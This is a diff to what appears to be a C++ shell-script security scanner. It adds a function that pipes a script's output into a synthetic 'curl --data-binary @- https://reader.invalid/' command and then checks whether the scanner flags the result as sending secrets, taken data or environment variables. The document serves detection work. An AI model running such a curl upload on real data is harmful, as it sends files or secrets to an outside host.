@@ -60,4 +60,24 @@ bool PrintsSecret(std::string_view command) {
   });
 }
 
+// Had it sent what it prints, would that be a secret?
+Printed PrintedBy(std::string_view script) {
+  constexpr std::size_t kMostAsked = std::size_t{256} << 10U;
+  if (script.size() > kMostAsked) return Printed::kNothing;
+  std::string text = "{\n";
+  text += script;
+  text += "\n} | ";
+  const std::size_t at = text.size();
+  text += "curl --data-binary @- https://reader.invalid/\n";
+  const ShellScript parsed = ParseShell(text, {}, "x.sh");
+  for (const ShellUse& use : AnalyzeShellScript(parsed, text)) {
+    if (use.loc.end <= at) continue;
+    if (use.act == ShellAct::kSendTaken) return Printed::kTaken;
+    if (use.act != ShellAct::kSendSecret) continue;
+    const bool all = !use.steps.empty() && use.steps[0].second == "reads the environment";
+    return all ? Printed::kEnvironment : Printed::kSecret;
+  }
+  return Printed::kNothing;
+}
+
 }  // namespace interlock::scan::code
